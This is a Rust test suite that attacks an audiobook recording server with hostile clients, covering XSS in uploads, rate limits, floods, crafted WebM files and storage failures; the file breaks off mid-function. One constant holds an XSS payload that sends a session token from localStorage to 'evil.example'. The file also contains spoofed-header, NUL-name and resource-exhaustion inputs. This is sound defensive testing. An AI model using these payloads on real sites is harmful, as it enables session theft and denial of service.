//! The hostile-client suite: a real server and real Socket.IO and HTTP
//! clients sending what an attacker would (docs/security.md lists which test
//! proves which claim). Each test checks that the attack gets a clear error,
//! that nothing acknowledged is lost, and, where it matters, that the server
//! stays small and quick for everybody else. Figures are printed; time bounds
//! are generous (the machine is shared with other suites).

mod common;

use std::time::{Duration, Instant};

use audiobook_client::wire::{
    AppendAck, AppendChunk, Record, RecordStatus, ResumeAck, ResumeRecording, StartAck, StartRecording, StopAck,
    StopRecording,
};
use audiobook_client::{Api, ClientError, Socket};
use bytes::Bytes;
use common::process::{Server, server_env};
use common::{Backend, record_take_as, spawn_app_with};
use serde_json::json;
use uuid::Uuid;

const HTML: &[u8] = b"<!doctype html><html><body><script>fetch('https://evil.example/?t='+\
    encodeURIComponent(localStorage.getItem('audiobook.session')))</script></body></html>";

fn chunk(seq: u64, id: Uuid, data: Bytes) -> AppendChunk {
    AppendChunk { data: Some(data), seq: Some(seq), recording_id: Some(id), ..Default::default() }
}

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!("{}/../media/tests/data/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    sorted[((sorted.len() as f64 - 1.0) * p).round() as usize]
}

/// A client that does not follow redirects (to see where a link points).
fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

fn assert_inert(headers: &http::HeaderMap, content_type: &str, what: &str) {
    assert_eq!(headers["content-type"], content_type, "{what}");
    assert_eq!(headers["x-content-type-options"], "nosniff", "{what}");
    assert_eq!(headers["content-security-policy"], "sandbox; default-src 'none'", "{what}");
    assert_eq!(headers["cross-origin-resource-policy"], "same-site", "{what}");
}

// ------------------------------------------------------------ stored XSS

/// `text/html` with a script, recorded and played back: stored as an opaque
/// download, never rendered, on the link and on the public share.
async fn html_take_is_an_inert_download(backend: Backend) {
    let Some(app) = spawn_app_with(backend, |_| {}).await else { return };
    let api = Api::new(&app.url);
    let me = api.onboard("Mallory").await.unwrap();
    let record = record_take_as(&app.url, &me.token, "text/html", None, HTML, 64).await;
    assert_eq!(record.mime_type, "application/octet-stream", "the declared type is not kept");

    let (status, headers, body) = api.get_bytes(&record.link, None).await.unwrap();
    assert_eq!(status, 200);
    assert_eq!(&body[..], HTML, "the bytes are kept as they came");
    assert_inert(&headers, "application/octet-stream", "link");
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(disposition.starts_with("attachment;"), "{disposition}");

    let (status, share) =
        api.raw(http::Method::POST, &format!("/recordings/{}/share", record.id), Some(&me.token), None).await.unwrap();
    assert_eq!(status, 201, "{share}");
    let audio = format!("{}/audio", share["url"].as_str().unwrap());
    let (status, headers, body) = api.get_bytes(&audio, None).await.unwrap();
    assert_eq!((status, &body[..]), (200, HTML));
    assert_inert(&headers, "application/octet-stream", "share audio");
    assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));

    // Real audio with a hostile parameter keeps its container type only,
    // plays inline, and is just as inert.
    let webm = fixture("mediarecorder-opus-3s.webm");
    let record = record_take_as(&app.url, &me.token, "audio/webm;codecs=\"<script>\"", None, &webm, 16_000).await;
    assert_eq!(record.mime_type, "audio/webm");
    let (status, headers, _) = api.get_bytes(&record.link, None).await.unwrap();
    assert_eq!(status, 200);
    assert_inert(&headers, "audio/webm", "audio link");
    assert!(headers["content-disposition"].to_str().unwrap().starts_with("inline;"));
    app.stop().await;
}
both_backends!(stored_xss, html_take_is_an_inert_download);

/// The same with the audio in S3: opaque types are proxied with the inert
/// headers; audio is a presigned URL that tells the bucket which type and
/// disposition to answer with.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn html_take_in_s3_is_an_inert_download() {
    let Some(s3) = audiobook_server::testing::s3_or_skip() else { return };
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| c.storage = s3.clone()).await else { return };
    let api = Api::new(&app.url);
    let me = api.onboard("Mallory").await.unwrap();
    let record = record_take_as(&app.url, &me.token, "text/html", None, HTML, 64).await;
    let response = no_redirects().get(&record.link).send().await.unwrap();
    assert_eq!(response.status(), 200, "an opaque type is never redirected to the bucket");
    assert_inert(response.headers(), "application/octet-stream", "S3 link");
    assert!(response.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"));
    assert_eq!(&response.bytes().await.unwrap()[..], HTML);

    let webm = fixture("mediarecorder-opus-3s.webm");
    let record = record_take_as(&app.url, &me.token, "audio/webm;codecs=opus", None, &webm, 16_000).await;
    let response = no_redirects().get(&record.link).send().await.unwrap();
    assert_eq!(response.status(), 307);
    let location = response.headers()["location"].to_str().unwrap().to_string();
    assert!(location.contains("response-content-type=audio%2Fwebm%3Bcodecs%3Dopus"), "{location}");
    assert!(location.contains("response-content-disposition=inline"), "{location}");
    let from_bucket = reqwest::get(&location).await.unwrap();
    assert_eq!(from_bucket.status(), 200);
    assert_eq!(from_bucket.headers()["content-type"], "audio/webm;codecs=opus");
    app.stop().await;
}

// ------------------------------------------------------------ limits

/// Five sockets of one user start takes at once, on two instances sharing
/// the database: never more than the limit are open.
async fn concurrent_starts_never_exceed_the_live_limit(backend: Backend) {
    let Some(app) = spawn_app_with(backend, |c| c.limits.max_live_recordings_per_user = 3).await else { return };
    // A second instance on the same database (PostgreSQL: a cluster).
    let second = match backend {
        Backend::Postgres => {
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let port = listener.local_addr().unwrap().port();
            let mut config = app.state.config.clone();
            config.port = port;
            config.public_url = format!("http://127.0.0.1:{port}");
            let state = audiobook_server::AppState::connect(config).await.unwrap();
            tokio::spawn(audiobook_server::serve_on(state, listener, std::future::pending()));
            Some(format!("http://127.0.0.1:{port}"))
        }
        Backend::Sqlite => None,
    };
    let me = Api::new(&app.url).onboard("Greedy").await.unwrap();
    let mut sockets = Vec::new();
    for i in 0..5 {
        let url = if i % 2 == 1 { second.as_deref().unwrap_or(&app.url) } else { &app.url };
        sockets.push(Socket::connect(url, &me.token).await.unwrap());
    }
    let request = StartRecording { mime_type: "audio/webm".into(), name: None };
    let starts = futures::future::join_all(sockets.iter().flat_map(|s| [s.start(&request), s.start(&request)])).await;
    let opened = starts.iter().filter(|r| r.is_ok()).count();
    let refused: Vec<_> = starts.iter().filter_map(|r| r.as_ref().err()).map(|e| e.to_string()).collect();
    println!("{opened} of {} concurrent starts opened; refusals: {:?}", starts.len(), refused.first());
    assert_eq!(opened, 3, "exactly the limit opens");
    assert!(refused.iter().all(|e| e.contains("3 recordings in progress")), "{refused:?}");
    let live: i64 = match &app.state.db {
        audiobook_server::db::Db::Sqlite(p) => {
            sqlx::query_scalar("SELECT COUNT(*) FROM records WHERE status = 'recording'").fetch_one(&p.write).await
        }
        audiobook_server::db::Db::Postgres(p) => {
            sqlx::query_scalar("SELECT COUNT(*) FROM records WHERE status = 'recording'").fetch_one(p).await
        }
    }
    .unwrap();
    assert_eq!(live, 3);
    for s in sockets {
        s.cut();
    }
    app.stop().await;
}
both_backends!(live_limit, concurrent_starts_never_exceed_the_live_limit);

/// The ninth socket of one user is refused at connect, with a reason.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sockets_per_user_are_limited() {
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| c.limits.max_sockets_per_user = 8).await else { return };
    let me = Api::new(&app.url).onboard("Octopus").await.unwrap();
    let mut open = Vec::new();
    for _ in 0..8 {
        open.push(Socket::connect(&app.url, &me.token).await.unwrap());
    }
    match Socket::connect(&app.url, &me.token).await {
        Err(ClientError::ConnectRefused(message)) => assert!(message.contains("too many connections"), "{message}"),
        other => panic!("the ninth socket was not refused: {:?}", other.map(|s| s.sid().to_string())),
    }
    // Another user is not affected, and a closed socket frees its place.
    let other = Api::new(&app.url).onboard("Other").await.unwrap();
    Socket::connect(&app.url, &other.token).await.unwrap().disconnect().await;
    open.pop().unwrap().disconnect().await;
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        match Socket::connect(&app.url, &me.token).await {
            Ok(s) => break s.cut(),
            Err(e) if Instant::now() < deadline => {
                println!("not yet: {e}");
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            Err(e) => panic!("a freed place was not given back: {e}"),
        }
    }
    app.stop().await;
}

/// `/onboard` from one address: a 429 with `Retry-After` after the limit;
/// other addresses (behind a trusted proxy) are counted apart.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn onboarding_is_rate_limited_per_address() {
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| {
        c.limits.onboard_per_minute = 3;
        c.trust_forwarded_for = true;
    })
    .await
    else {
        return;
    };
    let http = reqwest::Client::new();
    let onboard = |from: &'static str| {
        http.post(format!("{}/onboard", app.url))
            .header("content-type", "application/json")
            .header("x-forwarded-for", from)
            .body(r#"{"name":"Bot"}"#)
            .send()
    };
    for _ in 0..3 {
        assert_eq!(onboard("198.51.100.7").await.unwrap().status(), 201);
    }
    let refused = onboard("198.51.100.7").await.unwrap();
    assert_eq!(refused.status(), 429);
    let retry_after: u64 = refused.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=60).contains(&retry_after), "Retry-After: {retry_after}");
    let body: serde_json::Value = serde_json::from_slice(&refused.bytes().await.unwrap()).unwrap();
    assert!(body["error"].as_str().unwrap().contains("Too many new accounts"), "{body}");
    // A client cannot dodge the limit by writing its own X-Forwarded-For:
    // the address the proxy appends last is the one counted.
    assert_eq!(onboard("10.9.9.9, 198.51.100.7").await.unwrap().status(), 429);
    assert_eq!(onboard("203.0.113.50").await.unwrap().status(), 201, "another address");
    app.stop().await;
}

/// A user's byte allowance: a take stops growing at it (with `next_seq`,
/// nothing acknowledged lost), and no new take opens while it is used up.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bytes_per_user_are_limited() {
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| c.limits.max_bytes_per_user = 100_000).await else {
        return;
    };
    let me = Api::new(&app.url).onboard("Hoarder").await.unwrap();
    let socket = Socket::connect(&app.url, &me.token).await.unwrap();
    let id = socket
        .start(&StartRecording { mime_type: "application/octet-stream".into(), name: None })
        .await
        .unwrap()
        .recording_id;
    let piece = Bytes::from(vec![7u8; 30_000]);
    let mut acked = 0u64;
    for seq in 0..5 {
        match socket.append(&chunk(seq, id, piece.clone())).await.unwrap() {
            AppendAck::Ok(ok) => acked = ok.received_bytes,
            AppendAck::Err(e) => {
                assert!(e.error.contains("you may keep"), "{e:?}");
                assert_eq!(e.next_seq, Some(seq));
                break;
            }
        }
    }
    assert_eq!(acked, 90_000, "three chunks fit in 100 kB, the fourth does not");
    let saved = match socket.stop(&StopRecording { recording_id: Some(id), ..Default::default() }).await.unwrap() {
        StopAck::Ok(ok) => ok.record,
        StopAck::Err(e) => panic!("{e:?}"),
    };
    assert_eq!(saved.size_bytes, 90_000, "every acknowledged byte is saved");
    // A new take opens with the 10 kB left, and cannot grow past them.
    let id = socket
        .start(&StartRecording { mime_type: "application/octet-stream".into(), name: None })
        .await
        .unwrap()
        .recording_id;
    match socket.append(&chunk(0, id, piece.clone())).await.unwrap() {
        AppendAck::Err(e) => assert!(e.error.contains("you may keep") && e.next_seq == Some(0), "{e:?}"),
        AppendAck::Ok(ok) => panic!("over the allowance: {ok:?}"),
    }
    assert!(matches!(socket.append(&chunk(0, id, Bytes::from(vec![1u8; 9_000]))).await.unwrap(), AppendAck::Ok(_)));
    socket.cut();
    app.stop().await;
}

// ------------------------------------------------------------ hostile payloads over the socket

/// Names with control characters are refused over the socket as over REST
/// (on PostgreSQL a NUL used to leak spool files), and no file is left.
async fn socket_names_are_checked_like_rest_names(backend: Backend) {
    let Some(app) = spawn_app_with(backend, |_| {}).await else { return };
    let me = Api::new(&app.url).onboard("Nul").await.unwrap();
    let socket = Socket::connect(&app.url, &me.token).await.unwrap();
    for name in ["a\0b", "line\nbreak", &"x".repeat(51)] {
        let refused = socket
            .start(&StartRecording { mime_type: "audio/webm".into(), name: Some(name.into()) })
            .await
            .unwrap_err();
        assert!(refused.to_string().contains("`name`"), "{name:?}: {refused}");
    }
    let spool_files = std::fs::read_dir(app.spool_dir()).map(|d| d.count()).unwrap_or(0);
    assert_eq!(spool_files, 0, "no spool files for refused takes");
    assert!(Api::new(&app.url).records(me.user.id, &me.token).await.unwrap().is_empty());
    socket.cut();
    app.stop().await;
}
both_backends!(socket_names, socket_names_are_checked_like_rest_names);

/// An original-protocol client whose first chunk is refused and retried
/// ends with one take, not one per attempt.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_retried_first_chunk_does_not_leave_orphan_takes() {
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| c.limits.max_chunk_bytes = 10_000).await else { return };
    let me = Api::new(&app.url).onboard("Retry").await.unwrap();
    let socket = Socket::connect(&app.url, &me.token).await.unwrap();
    let too_big = AppendChunk { data: Some(Bytes::from(vec![1u8; 20_000])), ..Default::default() };
    // A chunk over the limit is refused before any take exists...
    for _ in 0..3 {
        assert!(matches!(socket.append(&too_big).await.unwrap(), AppendAck::Err(_)));
    }
    // ...and a take whose first chunk fails afterwards is reused by the retries.
    let fine = AppendChunk { data: Some(Bytes::from_static(b"audio")), ..Default::default() };
    let first = match socket.append(&fine).await.unwrap() {
        AppendAck::Ok(ok) => ok.recording_id,
        AppendAck::Err(e) => panic!("{e:?}"),
    };
    for _ in 0..3 {
        let ack = socket.append(&fine).await.unwrap();
        assert!(matches!(&ack, AppendAck::Ok(ok) if ok.recording_id == first), "{ack:?}");
    }
    let end = AppendChunk { data: None, is_final: true, ..Default::default() };
    assert!(matches!(socket.append(&end).await.unwrap(), AppendAck::Ok(_)));
    let saved = match socket.stop(&StopRecording { user_id: Some(me.user.id), ..Default::default() }).await.unwrap() {
        StopAck::Ok(ok) => ok.record,
        StopAck::Err(e) => panic!("{e:?}"),
    };
    assert_eq!((saved.id, saved.size_bytes), (first, 20));
    let count = app.state.db.count_records(me.user.id).await.unwrap();
    assert_eq!(count, 1, "one take for all the attempts");
    socket.cut();
    app.stop().await;
}

/// A flood of events on one socket is answered with temporary refusals
/// until the socket is cut off, and another user's recording is not slowed
/// down.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_event_flood_slows_nobody_else() {
    let Some(app) = spawn_app_with(Backend::Sqlite, |_| {}).await else { return };
    let api = Api::new(&app.url);
    let flooder = api.onboard("Flood").await.unwrap();
    let honest = api.onboard("Honest").await.unwrap();
    let flood_socket = Socket::connect(&app.url, &flooder.token).await.unwrap();
    let honest_socket = Socket::connect(&app.url, &honest.token).await.unwrap();
    let id =
        honest_socket.start(&StartRecording { mime_type: "audio/webm".into(), name: None }).await.unwrap().recording_id;

    // 3,000 resumes of unknown takes, with acks requested but not awaited.
    let unknown = json!({ "recording_id": Uuid::new_v4() });
    let flood = async {
        let answers = futures::future::join_all(
            (0..3000).map(|_| flood_socket.emit_raw("resume-recording", unknown.clone(), vec![], true)),
        )
        .await;
        let slow_downs = answers
            .iter()
            .filter(|a| {
                matches!(a, Ok(Some(v)) if v["retry_after_ms"].is_u64() && v["error"].as_str().is_some_and(|e| e.contains("Too many events")))
            })
            .count();
        let answered = answers.iter().filter(|a| matches!(a, Ok(Some(_)))).count();
        (answered, slow_downs)
    };
    let honest_run = async {
        let mut latencies = Vec::new();
        for seq in 0..20 {
            let started = Instant::now();
            let ack = honest_socket.append(&chunk(seq, id, Bytes::from(vec![3u8; 16_000]))).await.unwrap();
            latencies.push(started.elapsed());
            assert!(matches!(ack, AppendAck::Ok(_)), "{ack:?}");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        latencies
    };
    let ((answered, slow_downs), mut latencies) = tokio::join!(flood, honest_run);
    latencies.sort();
    println!(
        "flood: {answered} of 3000 answered, {slow_downs} told to slow down; honest acks p50 {:?} p99 {:?}",
        percentile(&latencies, 0.5),
        percentile(&latencies, 0.99)
    );
    assert!(slow_downs > audiobook_server::limits::MAX_REFUSALS as usize, "the flood is refused at once");
    assert!(answered < 3000, "the flooding socket is cut off before it is read to the end");
    assert!(!flood_socket.is_connected(), "the flooding socket is disconnected");
    assert!(percentile(&latencies, 0.99) < Duration::from_secs(1), "the honest client is not slowed");
    flood_socket.cut();
    honest_socket.cut();
    app.stop().await;
}

// ------------------------------------------------------------ memory and CPU

/// The start of a valid WebM (EBML header, Segment of unknown size, Info,
/// Tracks) from a real MediaRecorder file, before its first Cluster.
fn webm_head() -> Vec<u8> {
    fixture("mediarecorder-opus-3s.webm")[..146].to_vec()
}

/// 50 MB of 2-byte unknown elements after a valid header.
fn webm_of_tiny_elements(bytes: usize) -> Vec<u8> {
    let mut data = webm_head();
    data.resize(data.len() + bytes, 0x80);
    data
}

/// A cluster of 9-byte SimpleBlocks, each on its own track number.
fn webm_of_blocks_on_distinct_tracks(bytes: usize) -> Vec<u8> {
    let mut data = webm_head();
    data.extend_from_slice(&[0x1F, 0x43, 0xB6, 0x75, 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]);
    data.extend_from_slice(&[0xE7, 0x81, 0x00]); // Timecode 0
    let mut track = 2u32;
    while data.len() < bytes {
        // SimpleBlock, size 7: a 3-byte track number, timecode, flags, one byte.
        let t = 0x20_0000 | (track & 0x1F_FFFF);
        data.extend_from_slice(&[0xA3, 0x87, (t >> 16) as u8, (t >> 8) as u8, t as u8, 0, 0, 0x80, 0xFB]);
        track += 1;
    }
    data
}

/// Sends `data` as one take in 1 MiB chunks and stops it: (record, time to save).
async fn send_and_stop(url: &str, token: &str, data: &[u8]) -> (Record, Duration) {
    let mut socket = Socket::connect(url, token).await.unwrap();
    socket.set_ack_timeout(Duration::from_secs(600));
    let id = socket
        .start(&StartRecording { mime_type: "audio/webm;codecs=opus".into(), name: None })
        .await
        .unwrap()
        .recording_id;
    let pieces: Vec<_> = data.chunks(1 << 20).collect();
    for (seq, piece) in pieces.iter().enumerate() {
        let ack = socket.append(&chunk(seq as u64, id, Bytes::copy_from_slice(piece))).await.unwrap();
        assert!(matches!(ack, AppendAck::Ok(_)), "{ack:?}");
    }
    let started = Instant::now();
    let stop = StopRecording { recording_id: Some(id), chunks: Some(pieces.len() as u64), ..Default::default() };
    let record = match socket.stop(&stop).await.unwrap() {
        StopAck::Ok(ok) => ok.record,
        StopAck::Err(e) => panic!("{e:?}"),
    };
    let took = started.elapsed();
    socket.cut();
    (record, took)
}

/// Crafted WebMs that used to cost gigabytes or hours at stop are saved
/// within seconds with little memory (the bytes stored as they came where
/// the fixer gives up).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn crafted_webms_are_saved_quickly_in_little_memory() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::database(Backend::Sqlite).await.unwrap();
    let mut env = server_env(&db.url, dir.path(), 600.0);
    // These takes go in at full speed (this test is about the stop).
    env.push(("UPLOAD_BYTES_PER_SEC".into(), (100 << 20).to_string()));
    let server = Server::start(env).await;
    let me = Api::new(&server.url).onboard("Crafter").await.unwrap();
    for (what, data) in [
        ("50 MB of 2-byte unknown elements", webm_of_tiny_elements(50_000_000)),
        ("10 MB of 9-byte SimpleBlocks on distinct tracks", webm_of_blocks_on_distinct_tracks(10_000_000)),
    ] {
        let (before, _) = server.memory();
        let (record, took) = send_and_stop(&server.url, &me.token, &data).await;
        let (_, peak) = server.memory();
        let growth = peak.saturating_sub(before);
        println!(
            "{what}: saved in {:.2} s, {} bytes stored, duration {} ms; server RSS {} MB before, peak {} MB (+{} MB)",
            took.as_secs_f64(),
            record.size_bytes,
            record.duration_ms,
            before >> 20,
            peak >> 20,
            growth >> 20
        );
        assert_eq!(record.status, RecordStatus::Ready);
        assert!(record.size_bytes >= data.len() as u64 - 16, "nothing of the take is lost");
        assert!(took < Duration::from_secs(60), "{what} took {took:?} to save");
        assert!(growth < 100 << 20, "{what}: RSS grew by {} MB", growth >> 20);
    }
    db.drop().await;
}

/// A client that sends 1 MiB chunks as fast as it can for 10 s without
/// waiting for acks: the server's memory stays small and 100 well-behaved
/// recorders keep getting quick acks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_chunk_flood_neither_bloats_the_server_nor_slows_recorders() {
    let dir = tempfile::tempdir().unwrap();
    let db = common::database(Backend::Sqlite).await.unwrap();
    let env = server_env(&db.url, dir.path(), 600.0);
    let server = Server::start(env).await;
    let url = server.url.clone();

    // 100 recorders, each with its own user and socket.
    let recorders = futures::future::join_all((0..100).map(|i| {
        let url = url.clone();
        async move {
            let me = Api::new(&url).onboard(&format!("Honest {i}")).await.unwrap();
            let mut socket = Socket::connect(&url, &me.token).await.unwrap();
            socket.set_ack_timeout(Duration::from_secs(60));
            let id = socket
                .start(&StartRecording { mime_type: "audio/webm".into(), name: None })
                .await
                .unwrap()
                .recording_id;
            (socket, id)
        }
    }))
    .await;
    let flooder = Api::new(&url).onboard("Flooder").await.unwrap();
    let flood_id = Socket::connect(&url, &flooder.token)
        .await
        .unwrap()
        .start(&StartRecording { mime_type: "audio/webm".into(), name: None })
        .await
        .unwrap()
        .recording_id;
    let (before, _) = server.memory();

    // The flooder reconnects whenever it is cut off, as an attacker would.
    let flood = async {
        let started = Instant::now();
        let (mut sent, mut seq, mut connections, mut refused_connects) = (0u64, 0u64, 0u32, 0u32);
        let mb = Bytes::from(vec![0x5Au8; 1 << 20]);
        while started.elapsed() < Duration::from_secs(10) {
            let socket = match Socket::connect(&url, &flooder.token).await {
                Ok(socket) => socket,
                Err(_) => {
                    refused_connects += 1;
                    tokio::time::sleep(Duration::from_millis(20)).await;
                    continue;
                }
            };
            connections += 1;
            while started.elapsed() < Duration::from_secs(10) {
                let c = AppendChunk {
                    data: Some(mb.clone()),
                    seq: Some(seq),
                    recording_id: Some(flood_id),
                    ..Default::default()
                };
                if socket.append_no_ack(&c).await.is_err() {
                    break;
                }
                sent += 1 << 20;
                seq += 1;
            }
            socket.cut();
        }
        (sent, connections, refused_connects)
    };
    let honest = futures::future::join_all(recorders.iter().map(|(socket, id)| async move {
        let mut latencies = Vec::new();
        for seq in 0..10u64 {
            let started = Instant::now();
            let ack = socket.append(&chunk(seq, *id, Bytes::from(vec![1u8; 16_000]))).await;
            latencies.push(started.elapsed());
            assert!(matches!(ack, Ok(AppendAck::Ok(_))), "{ack:?}");
            tokio::time::sleep(Duration::from_secs(1).saturating_sub(started.elapsed())).await;
        }
        latencies
    }));
    let ((sent, connections, refused_connects), latencies) = tokio::join!(flood, honest);
    let (_, peak) = server.memory();
    let mut latencies: Vec<Duration> = latencies.into_iter().flatten().collect();
    latencies.sort();
    let stored = std::fs::metadata(dir.path().join("spool").join(format!("{flood_id}.data"))).map_or(0, |m| m.len());
    let growth = peak.saturating_sub(before);
    println!(
        "flood: {} MB sent in 10 s over {connections} connections ({refused_connects} connects refused), \
         {} MB accepted; server RSS {} MB before, peak {} MB (+{} MB); \
         100 recorders' acks: p50 {:?}, p99 {:?}, max {:?}",
        sent >> 20,
        stored >> 20,
        before >> 20,
        peak >> 20,
        growth >> 20,
        percentile(&latencies, 0.5),
        percentile(&latencies, 0.99),
        latencies.last().copied().unwrap_or_default()
    );
    assert!(sent > 16 << 20, "the flood really flooded ({} MB)", sent >> 20);
    assert!(connections > 1, "the flooding socket was cut off");
    assert!(stored < 40 << 20, "the flood's take grew only at the allowed rate ({} MB)", stored >> 20);
    assert!(growth < 100 << 20, "RSS grew by {} MB", growth >> 20);
    assert!(percentile(&latencies, 0.99) < Duration::from_millis(500), "ack p99 stays low (target 50 ms)");
    // Every honest chunk is stored, every one once.
    for (socket, id) in &recorders {
        let progress = match socket.resume(&ResumeRecording { recording_id: *id }).await.unwrap() {
            ResumeAck::Ok(ok) => ok,
            ResumeAck::Err(e) => panic!("{e:?}"),
        };
        assert_eq!((progress.next_seq, progress.received_bytes), (10, 160_000));
    }
    db.drop().await;
}

// ------------------------------------------------------------ failures on the server's side

/// The user's storage folder is blocked at stop (a storage error): the take
/// is `pending`, plays from the spool, and ends `ready` with the same bytes
/// once storage works again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_storage_failure_at_stop_is_retried_until_ready() {
    let Some(app) = spawn_app_with(Backend::Sqlite, |c| c.limits.recording_grace = Duration::from_secs(2)).await else {
        return;
    };
    let api = Api::new(&app.url);
    let me = api.onboard("Unlucky").await.unwrap();
    // A file where the user's folder of recordings would go.
    let blocked = app.dir.path().join("public/recordings").join(me.user.id.to_string());
    std::fs::create_dir_all(blocked.parent().unwrap()).unwrap();
    std::fs::write(&blocked, b"in the way").unwrap();
    let data = fixture("mediarecorder-opus-3s.webm");
    let record = record_take_as(&app.url, &me.token, "audio/webm;codecs=opus", None, &data, 16_000).await;
    assert_eq!(record.status, RecordStatus::Pending, "not stored yet, but safe");
    let (status, _, pending_audio) = api.get_bytes(&record.link, None).await.unwrap();
    assert_eq!(status, 200, "a pending take plays from the spool");
    std::fs::remove_file(&blocked).unwrap();
    let ready = wait_for_status(&api, &me, record.id, RecordStatus::Ready).await;
    let (_, _, stored) = api.get_bytes(&ready.link, None).await.unwrap();
    assert_eq!(stored, pending_audio, "the same bytes, now from storage");
    app.stop().await;
}

async fn wait_for_status(api: &Api, me: &audiobook_client::wire::Onboarded, id: Uuid, status: RecordStatus) -> Record {
    wait_for_status_within(api, me, id, status, Duration::from_secs(60)).await
}

async fn wait_for_status_within(
    api: &Api,
    me: &audiobook_client::wire::Onboarded,
    id: Uuid,
    status: RecordStatus,
    within: Duration,
) -> Record {
    let started = Instant::now();
    loop {
        let records = api.records(me.user.id, &me.token).await.unwrap();
        if let Some(r) = records.iter().find(|r| r.id == id && r.status == status) {
            println!("{id} became {status:?} after {:.1} s", started.elapsed().as_secs_f64());
            return r.clone();
        }
        assert!(started.elapsed() < within, "{id} did not become {status:?}: {records:?}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// The database refuses the final update of a take once (an injected
/// failure, by a trigger in the real database): the stop answers that the
/// take is safe and being saved, the reaper retries, and the take ends
/// `ready` with every byte.
async fn a_database_failure_at_stop_is_retried_until_ready(backend: Backend) {
    let Some(app) = spawn_app_with(backend, |c| c.limits.recording_grace = Duration::from_secs(2)).await else {
        return;
    };
    inject_one_failure_of_the_final_update(&app.state.db).await;
    let api = Api::new(&app.url);
    let me = api.onboard("Unlucky").await.unwrap();
    let socket = Socket::connect(&app.url, &me.token).await.unwrap();
    let id = socket
        .start(&StartRecording { mime_type: "audio/webm;codecs=opus".into(), name: None })
        .await
        .unwrap()
        .recording_id;
    let data = fixture("mediarecorder-opus-3s.webm");
    let ack = socket.append(&chunk(0, id, Bytes::from(data.clone()))).await.unwrap();
    assert!(matches!(ack, AppendAck::Ok(_)));
    let stop = StopRecording { recording_id: Some(id), chunks: Some(1), ..Default::default() };
    match socket.stop(&stop).await.unwrap() {
        StopAck::Err(e) => {
            assert!(e.error.contains("safe on the server"), "{e:?}");
            assert!(e.retry_after_ms.is_some(), "the client is told to ask again");
        }
        StopAck::Ok(ok) => panic!("the injected failure did not happen: {ok:?}"),
    }
    let ready = wait_for_status(&api, &me, id, RecordStatus::Ready).await;
    assert_eq!(ready.duration_ms, 3000, "the container fix was applied on the retry");
    // A retried stop now returns the saved take.
    match socket.stop(&stop).await.unwrap() {
        StopAck::Ok(ok) => assert_eq!(ok.record.id, id),
        StopAck::Err(e) => panic!("{e:?}"),
    }
    let (_, _, stored) = api.get_bytes(&ready.link, None).await.unwrap();
    let blocks = |b: &[u8]| audiobook_media::audio_blocks(b).unwrap();
    assert_eq!(blocks(&stored), blocks(&data), "every audio block kept");
    socket.cut();
    app.stop().await;
}
both_backends!(database_failure, a_database_failure_at_stop_is_retried_until_ready);

/// The database fails the final update of a take and then the update that
/// would schedule its retry (as when it goes down mid-save, as in the
/// cluster's PostgreSQL restart): the retry the claim scheduled still comes,
/// and the take ends `ready` instead of `finalizing` until a restart.
async fn a_save_failing_with_its_retry_unscheduled_is_retried_all_the_same(backend: Backend) {
    let Some(app) = spawn_app_with(backend, |c| c.limits.recording_grace = Duration::from_secs(2)).await else {
        return;
    };
    inject_one_failure_of_the_final_update(&app.state.db).await;
    inject_one_failure_of_the_retry_schedule(&app.state.db).await;
    let api = Api::new(&app.url);
    let me = api.onboard("Unluckier").await.unwrap();
    let socket = Socket::connect(&app.url, &me.token).await.unwrap();
    let id = socket
        .start(&StartRecording { mime_type: "audio/webm;codecs=opus".into(), name: None })
        .await
        .unwrap()
        .recording_id;
    let data = fixture("mediarecorder-opus-3s.webm");
    assert!(matches!(socket.append(&chunk(0, id, Bytes::from(data.clone()))).await.unwrap(), AppendAck::Ok(_)));
    let stop = StopRecording { recording_id: Some(id), chunks: Some(1), ..Default::default() };
    let stopped = std::time::Instant::now();
    if let StopAck::Ok(ok) = socket.stop(&stop).await.unwrap() {
        panic!("the injected failure did not happen: {ok:?}");
    }
    let row = app.state.db.record(id).await.unwrap().unwrap();
    assert_eq!((row.status.as_str(), row.attempts), ("finalizing", 0), "the retry was not scheduled by the failure");
    let within = audiobook_server::db::takes::UNLESS_SAVED_RETRY_AFTER + Duration::from_secs(60);
    let ready = wait_for_status_within(&api, &me, id, RecordStatus::Ready, within).await;
    println!("saved {:.1} s after the failed stop", stopped.elapsed().as_secs_f64());
    assert_eq!(ready.duration_ms, 3000);
    socket.cut();
    app.stop().await;
}
both_backends!(unscheduled_retry, a_save_failing_with_its_retry_unscheduled_is_retried_all_the_same);

/// Makes the next update that records a failed save's error (and so
/// schedules its retry) fail, once.
async fn inject_one_failure_of_the_retry_schedule(db: &audiobook_server::db::Db) {
    use audiobook_server::db::Db;
    match db {
        Db::Sqlite(p) => {
